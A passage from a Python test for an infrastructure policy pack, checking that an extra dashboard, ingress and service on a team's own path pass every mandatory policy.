    a ClusterIP Service) are allowed: the plan has them, and one more of each, on the team's own
    path below its prefix, passes the whole pack as well."""
    records = plan_records(TEAM)
    assert {"aws:cloudwatch/dashboard:Dashboard", INGRESS, SERVICE} <= {r["type"] for r in records}
    extra = (on(TEAM, "aws:cloudwatch/dashboard:Dashboard", "extra-dashboard", {
        "dashboardName": "gpu-training-prod-vision-extra", "dashboardBody": json.dumps({"widgets": []})}),
        *ingress(path="/team-vision/extra")(records), *service()(records))
    assert mandatory(evaluate(with_changes(records, add=extra), POLICIES)) == set()
